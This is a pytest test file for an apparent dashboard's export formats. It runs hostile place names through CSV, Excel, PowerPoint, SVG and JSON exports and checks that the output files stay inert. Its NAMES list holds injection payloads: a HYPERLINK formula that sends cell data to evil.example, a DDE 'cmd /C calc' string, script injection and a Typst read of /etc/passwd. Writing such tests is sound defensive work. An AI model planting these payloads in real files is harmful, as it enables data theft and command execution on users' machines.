"""A school with a hostile name through every format: the file is made, opens in its own reader, and runs nothing."""

import csv
import io
from dataclasses import replace

import pandas as pd
import pytest
from pptx import Presentation
from python_calamine import CalamineWorkbook

from components import page as composer
from components import reading
from components.exhibit import Shown
from components.figures import theme
from exports import EXPORTS, About, Slide
from tests import unpacked

NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "xml": "]]></a:t><script>alert(1)</script>&lt;&amp;<!--",
    "long": "Ñandú " * 1000,
    "unbroken": "W" * 5000,
    "rtl": "\u202eمدرسة القمر\u202c \u05d1\u05d9\u05ea",
    "emoji": "School 🏫👩‍🏫 🇺🇸 of the 𝕊un",
    "control": "Bell\x07 Null\x00 Tab\t Line\nBreak\r\x1b[31m \ufffe",
    "surrogate": "Half \ud83d of a pair",
    "typst": '#read("/etc/passwd") $x^2$ *bold* @label <ref> \\ #sys.version',
    "format": "%(name)s %s {0} {place} ${x}",
}
ABOUT = About("place", (), "20261122-000000-abcdef", "2026-11-22T00:00:00+00:00", True, title="Place", site="https://x.example")
SEEN = ("place", "compare", "grid")


def poisoned(value: object, name: str, by: str) -> object:
    """The same with one name replaced wherever it stands: in texts, tables, figures."""
    if isinstance(value, str):
        return value.replace(name, by)
    if isinstance(value, dict):
        return {k: poisoned(v, name, by) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(poisoned(v, name, by) for v in value)
    return value


def hostile(shown: Shown, name: str, by: str) -> Shown:
    frame = shown.frame.map(lambda v: poisoned(v, name, by)) if len(shown.frame.columns) else shown.frame
    rows = tuple({k: str(poisoned(v, name, by)) for k, v in row.items()} for row in shown.table.rows)
    table = replace(shown.table, rows=rows, caption=str(poisoned(shown.table.caption, name, by)))
    texts = ("headline", "subtitle", "words", "alt", "why", "extra")
    changed = {f: poisoned(getattr(shown, f), name, by) for f in texts}
    # Labels of a figure are escaped by whoever draws it: Plotly reads a little HTML in them.
    changed["figure"] = poisoned(shown.figure, name, theme.escape_label(by))
    return replace(shown, table=table, rows=lambda: frame, **changed)


@pytest.fixture(scope="module")
def slides(demo_home):
    """Exhibits of three pages in which one county's name stands, and that name."""
    patch = pytest.MonkeyPatch()
    patch.setenv("RTAC_HOME", str(demo_home))
    import app

    name, out = "Ventura County", []
    with app.server.test_request_context("/"):
        for key in SEEN:
            made = composer.pages[key]
            read = made.settle(reading.read({**made.defaults, "place": "56000000000000"}))
            for exhibit in made.exhibits:
                try:
                    shown = exhibit.build(replace(read.view, build=read.build.id), read.ask)
                except ValueError:
                    continue
                if name in str(shown.table.rows) or name in shown.subtitle:
                    assert isinstance(shown.frame, pd.DataFrame)
                    out.append(shown)
    patch.undo()
    assert len(out) >= 6
    return name, out


@pytest.mark.parametrize("kind", NAMES)
@pytest.mark.parametrize("form", EXPORTS)
def test_a_hostile_name_goes_through(slides, form, kind):
    name, shown = slides
    changed = [Slide(hostile(s, name, NAMES[kind]), f"/place#place-{s.key}") for s in shown]
    files = [changed] if EXPORTS[form].many else [[one] for one in changed]
    for some in files:
        body = EXPORTS[form].write(some, ABOUT)
        parts = list(unpacked.texts(body))
        assert parts
        CHECKS.get(form, lambda body: None)(body)
        if form != "json":
            assert not any("root:x:0" in text for _part, text in parts)


def test_a_hostile_title_and_note_go_through(slides):
    _name, shown = slides
    for form, of in EXPORTS.items():
        for text in NAMES.values():
            about = replace(ABOUT, title=text[:120], occasion=text)
            body = of.write([Slide(shown[0], "/place#x", text[:300], text[:4000])], about)
            assert list(unpacked.texts(body)), form


def _csv(body: bytes) -> None:
    for row in csv.reader(io.StringIO(body.decode("utf-8"), newline="")):
        for cell in row:
            assert not cell.lstrip().startswith(("=", "@", "+", "\t")) or cell.startswith("'"), cell[:80]


def _xlsx(body: bytes) -> None:
    unpacked.well_formed(body)
    CalamineWorkbook.from_filelike(io.BytesIO(body))
    for part, text in unpacked.texts(body):
        assert "<f>" not in text or "evil" not in text, part
        assert "evil.example" not in text or not part.endswith(".rels"), "no link to another host"


def _pptx(body: bytes) -> None:
    unpacked.well_formed(body)
    assert len(Presentation(io.BytesIO(body)).slides) >= 1
    for part, text in unpacked.texts(body):
        assert "evil.example" not in text or not part.endswith(".rels"), "no link to another host"


def _svg(body: bytes) -> None:
    import xml.etree.ElementTree as ET

    root = ET.fromstring(body)
    assert not any(node.tag.endswith("script") for node in root.iter())


CHECKS = {"csv": _csv, "xlsx": _xlsx, "pptx": _pptx, "svg": _svg}
